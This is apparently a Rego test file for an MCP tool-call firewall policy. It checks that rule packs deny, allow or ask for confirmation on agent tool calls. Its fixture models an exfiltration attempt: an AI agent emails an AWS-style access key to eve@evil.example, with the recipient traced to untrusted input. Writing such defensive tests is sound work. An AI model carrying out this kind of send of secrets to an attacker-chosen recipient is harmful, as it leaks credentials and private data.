package mcp_firewall_test

import rego.v1

import data.mcp_firewall

untrusted_send := {
	"phase": "call",
	"server": {"name": "mail"},
	"tool": {"name": "send_email", "classes": ["source", "sink", "egress"], "classes_from": "catalog"},
	"arguments": {"to": "eve@evil.example", "body": "AKIAIOSFODNN7EXAMPLE"},
	"provenance": {"derived_from": [
		{"path": ["to"], "kind": "email", "trust": "untrusted", "confidentiality": "public", "sources": [2]},
		{"path": ["body"], "kind": "substring", "trust": "internal", "confidentiality": "private", "sources": [1]},
	]},
	"session": {"context": {"trust": "untrusted", "confidentiality": "private"}},
}

test_default_selection_is_baseline if {
	mcp_firewall.selected == ["baseline"] with data.mcp_firewall.config as {}
}

test_composed_packs_deny_with_every_rule_named if {
	r := mcp_firewall.result with input as untrusted_send
		with data.mcp_firewall.config.packs as ["baseline", "data_leakage", "no_exfiltration"]
	r.decision == "deny"
	r.rule_ids == [
		"baseline.untrusted_argument_to_side_effect",
		"data_leakage.aws_access_key",
		"no_exfiltration.egress_after_private_and_untrusted",
	]
}

test_no_selected_pack_allows if {
	r := mcp_firewall.result with input as untrusted_send with data.mcp_firewall.config.packs as []
	r.decision == "allow"
}

test_ask_when_only_asks if {
	r := mcp_firewall.result with input as object.union(untrusted_send, {
		"tool": {"name": "delete_all_mail", "classes": ["source", "sink", "destructive"], "classes_from": "catalog"},
		"provenance": {"derived_from": []},
		"arguments": {},
	})
		with data.mcp_firewall.config.packs as ["baseline"]
	r.decision == "ask"
}
